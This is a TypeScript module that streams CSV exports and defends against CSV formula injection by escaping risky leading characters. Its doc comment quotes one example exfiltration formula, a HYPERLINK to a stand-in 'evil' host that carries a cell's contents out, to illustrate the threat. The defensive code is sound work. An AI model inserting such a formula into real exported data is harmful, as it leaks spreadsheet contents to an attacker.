// CSV with csv-stringify: one batch at a time (the sync API per batch is several times faster than one stream event
// per record, and memory still holds one batch), written with backpressure to the file handle.
import { stringify } from "csv-stringify/sync";
import { abandon, endStream, fileStream, writeChunk } from "./durable-file";

export interface CsvOptions {
  /** Written first, verbatim (the `# CONFIDENTIAL …` line), or null. */
  comment: string | null;
  header: string[];
}

/** On failure the descriptor is closed (abandon). Writes the file and returns the number of data rows; `rows` yields batches already in file order. */
export async function writeCsv(fd: number, opts: CsvOptions, rows: AsyncIterable<unknown[][]>): Promise<number> {
  const out = fileStream(fd);
  let count = 0;
  try {
    if (opts.comment) await writeChunk(out, opts.comment);
    await writeChunk(out, stringify([opts.header], CSV_OPTS));
    for await (const batch of rows) {
      if (batch.length === 0) continue;
      await writeChunk(out, stringify(batch, CSV_OPTS));
      count += batch.length;
    }
    await endStream(out);
  } catch (err) {
    await abandon(out);
    throw err;
  }
  return count;
}

/**
 * CSV injection (OWASP): a spreadsheet runs a cell that starts with = @ + - (or a tab or CR before one) as a formula, and
 * warehouse values come from marketplace users (a name like `=HYPERLINK("https://evil/?"&A1)`). Such a cell gets a
 * leading `'`, which spreadsheets show as text. Numbers and phone-like text starting with + or - (`+1 415 555 0123`,
 * `-15000`) stay as they are, so ordinary values are never changed; masked values never start with these characters
 * except the masked phone's `+•…`, which is phone-like.
 */
export function neutraliseFormula(value: string): string {
  const c = value.charCodeAt(0);
  // = @ TAB CR
  if (c === 61 || c === 64 || c === 9 || c === 13) return `'${value}`;
  // + -
  if ((c === 43 || c === 45) && !PHONE_OR_NUMBER.test(value)) return `'${value}`;
  return value;
}

const PHONE_OR_NUMBER = /^[+-][0-9\u2022 ().-]*$/;

// RFC 4180 line ends.
const CSV_OPTS = { record_delimiter: "\r\n", cast: { string: neutraliseFormula } } as const;
